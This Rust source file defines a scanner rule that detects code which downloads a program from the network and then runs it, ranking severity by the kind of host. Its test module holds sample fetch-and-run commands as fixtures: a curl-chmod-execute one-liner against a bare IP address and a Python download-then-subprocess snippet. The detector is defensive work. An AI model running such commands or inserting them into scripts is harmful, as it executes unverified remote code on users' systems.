use facts::{Destination, Origination};
use finding::{Confidence, Finding, RuleMeta, Severity};

use crate::code::{self, Peer};
use crate::rule::declare_rule;
use crate::{Context, Rule};

declare_rule! {
    DownloadThenExecute = "download-then-execute",
    summary: "fetches a program and runs it",
    severity: Medium, confidence: Medium, reads: ["flows"],
    fix: "Pin the version, check its digest before it runs, or install it from a package manager.",
    since: "0.1.0",
}

impl Rule for DownloadThenExecute {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, cx: &Context<'_>, out: &mut Vec<Finding>) {
        for (_, source) in cx.sources() {
            for flow in &source.flows {
                let (Origination::Net(from), Destination::Exec(program)) =
                    (&flow.from.what, &flow.to.what)
                else {
                    continue;
                };
                // Not data that a program works on: the program itself came from there.
                if !flow.through.iter().any(|(step, _)| step == "file") {
                    continue;
                }
                let peer = Peer::of(cx, from);
                let (severity, most) = match &peer {
                    Peer::Local => continue,
                    Peer::Official => (Severity::Low, Confidence::High),
                    Peer::Address(_) | Peer::Open(..) => (Severity::Critical, Confidence::High),
                    _ if code::is_clear_text(from) => (Severity::High, Confidence::Medium),
                    Peer::Named(_) | Peer::Home | Peer::Unknown => (META.severity, META.confidence),
                };
                let message = format!("fetches {program} from {} and runs it", peer.shown());
                let finding = Finding::new(&META, message)
                    .severity(severity)
                    .confidence(code::confidence(cx, source, most));
                let steps = code::steps(flow, "it is fetched here");
                out.push(code::located(
                    cx,
                    source,
                    finding,
                    (flow.to.span, "it runs here"),
                    steps,
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::{findings, finds, passes};

    #[test]
    fn a_program_from_a_bare_address_is_critical() {
        let found = finds(
            &DownloadThenExecute,
            "```bash\ncurl -o /tmp/t http://198.51.100.7/t && chmod +x /tmp/t && /tmp/t\n```\n",
        );
        assert_eq!(found.severity, Severity::Critical);
    }

    #[test]
    fn the_file_joins_the_two_halves_in_python() {
        let code = "import urllib.request, subprocess\nurllib.request.urlretrieve('https://files.example.net/t', '/tmp/t')\nsubprocess.run(['/tmp/t'])";
        assert_eq!(
            findings(&DownloadThenExecute, &[("a.py", code)])[0].severity,
            Severity::Medium
        );
    }

    #[test]
    fn data_that_is_worked_on_passes() {
        passes(
            &DownloadThenExecute,
            "```bash\ncurl -o data.json https://api.example.com/x\njq .a data.json\n```\n",
        );
    }
}
